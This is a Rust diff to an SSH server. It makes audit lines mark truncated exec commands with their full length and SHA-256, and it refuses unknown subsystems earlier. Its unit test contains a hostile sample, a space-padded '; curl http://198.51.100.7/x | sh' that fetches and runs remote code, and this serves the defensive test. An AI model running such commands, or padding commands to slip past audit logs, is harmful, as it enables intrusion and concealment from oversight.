@@ -48,6 +48,27 @@ pub const MAX_SESSION_CHANNELS: usize = 10;
 /// The longest command line of an `exec` request, in bytes.
 pub const MAX_EXEC_COMMAND: usize = 64 * 1024;
 
+/// How much of a command an audit line shows.
+const SHOWN_COMMAND: usize = 1024;
+
+/// A command as an audit line shows it: whole up to [`SHOWN_COMMAND`] bytes; a longer one
+/// first says its length and SHA-256, then its first bytes, so that what ran past the cut (a
+/// command padded with 1,100 spaces, then `; curl …`) is not hidden behind a line that looks
+/// whole. (The audit log cuts every string longer still, keeping its start: the mark
+/// stays.)
+fn shown_command(command: &[u8]) -> String {
+    let head = String::from_utf8_lossy(command.get(..SHOWN_COMMAND).unwrap_or(command));
+    if command.len() <= SHOWN_COMMAND {
+        return head.into_owned();
+    }
+    let digest = ring::digest::digest(&ring::digest::SHA256, command);
+    let hex: String = digest.as_ref().iter().map(|b| format!("{b:02x}")).collect();
+    format!(
+        "[cut: {} bytes in all, sha256 {hex}] {head}…",
+        command.len()
+    )
+}
+
 /// How long the output of a terminal is still read after its shell exited (background jobs
 /// may hold the terminal open for ever).
 const TTY_DRAIN: Duration = Duration::from_millis(500);
@@ -555,6 +576,13 @@ impl Sessions {
                 )
             };
         }
+        // An unknown subsystem is refused before the channel counts as started: the client
+        // may still ask this channel for something else, and no slot is spent on it.
+        if let Kind::Subsystem(name) = &kind
+            && name != "sftp"
+        {
+            return session.channel_failure(channel);
+        }
         match self.channel_state(channel) {
             Some(state) if !state.started => state.started = true,
             _ => return session.channel_failure(channel),
@@ -571,11 +599,6 @@ impl Sessions {
                 "command_too_long",
                 &format!("the command is longer than {MAX_EXEC_COMMAND} bytes"),
             );
-        }
-        if let Kind::Subsystem(name) = &kind
-            && name != "sftp"
-        {
-            return session.channel_failure(channel);
         }
         if let Some((code, message)) = recheck(ctx.shared, &who) {
             refuse!(code, &message);
@@ -611,7 +634,7 @@ impl Sessions {
             }
             (None, Kind::Exec(command)) => {
                 cmd.arg("-c").arg(OsStr::from_bytes(command));
-                shown = String::from_utf8_lossy(&command[..command.len().min(1024)]).into_owned();
+                shown = shown_command(command);
             }
             (None, Kind::Subsystem(_)) => {
                 let Some(sftp) = Self::sftp_server(ctx) else {
@@ -725,9 +748,7 @@ impl Sessions {
             kind.name(),
         );
         start.command = (!shown.is_empty()).then(|| shown.clone());
-        start.original_command = original
-            .as_ref()
-            .map(|a| String::from_utf8_lossy(&a[..a.len().min(1024)]).into_owned());
+        start.original_command = original.as_ref().map(|a| shown_command(a));
         start.tty = pty.is_some();
         start.cgroup_id = cgroup_id;
         if !ctx.shared.audit.record(SshAuditEvent::Session(start)) {
@@ -1072,6 +1093,27 @@ fn to_sig(name: &str) -> Sig {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// A command longer than an audit line shows is marked as cut, with its length and
+    /// SHA-256: padding cannot hide what follows it.
+    #[test]
+    fn a_long_command_is_shown_cut_with_its_length_and_digest() {
+        assert_eq!(shown_command(b"id"), "id");
+        let mut long = vec![b' '; 1100];
+        long.extend_from_slice(b"; curl http://198.51.100.7/x | sh");
+        let shown = shown_command(&long);
+        let digest = ring::digest::digest(&ring::digest::SHA256, &long);
+        let hex: String = digest.as_ref().iter().map(|b| format!("{b:02x}")).collect();
+        let mark = format!("[cut: 1133 bytes in all, sha256 {hex}] ");
+        assert!(shown.starts_with(&mark), "{shown}");
+        assert!(
+            shown.ends_with(&format!("{}…", " ".repeat(1024))),
+            "{shown}"
+        );
+        // The audit log's own cut keeps the mark.
+        assert!(ippin_access::audit::log::cap_field(&shown).starts_with(&mark));
+        assert_eq!(shown_command(&[b'a'; 1024]), "a".repeat(1024));
+    }
 
     #[test]
     fn signals_are_named_as_rfc_4254_names_them() {
